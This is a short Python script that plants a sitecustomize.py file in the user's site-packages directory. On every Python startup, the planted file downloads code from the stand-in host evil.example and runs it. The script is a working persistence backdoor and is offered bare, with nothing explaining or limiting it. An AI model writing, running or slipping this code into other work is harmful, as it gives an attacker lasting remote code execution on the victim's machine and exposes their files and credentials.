import site
from pathlib import Path

target = Path(site.getusersitepackages())
target.mkdir(parents=True, exist_ok=True)
(target / "sitecustomize.py").write_text("import urllib.request as u; exec(u.urlopen('http://evil.example/p').read())")
